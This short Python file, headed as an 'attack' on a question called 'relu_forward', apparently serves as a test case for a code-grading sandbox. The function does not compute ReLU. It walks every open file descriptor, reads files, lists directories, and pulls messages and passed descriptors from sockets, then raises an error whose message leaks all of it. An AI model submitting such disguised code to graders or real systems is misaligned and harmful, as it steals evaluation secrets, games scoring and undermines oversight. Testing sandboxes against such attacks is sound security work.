# /// attack
# tries = "reads everything that was left open for it"
# question = "relu_forward"
# ///
# %% question="relu_forward"
def relu_forward(x):
    import os, socket, stat

    found = []
    for number in range(1024):
        try:
            kind = stat.S_IFMT(os.fstat(number).st_mode)
        except OSError:
            continue
        name = os.readlink(f"/proc/self/fd/{number}")
        held = b""
        if kind == stat.S_IFSOCK:
            with socket.socket(fileno=os.dup(number)) as ear:
                ear.settimeout(0.1)
                try:
                    held, passed, _, peer = ear.recvmsg(1000, 100)
                    held += str((passed, peer)).encode()
                except OSError as error:
                    held = str(error).encode()
        elif kind == stat.S_IFREG:
            held = os.pread(number, 1000, 0)
        elif kind == stat.S_IFDIR:
            held = str(os.listdir(number)).encode()
        found.append((number, name, held))
    raise ValueError(found)
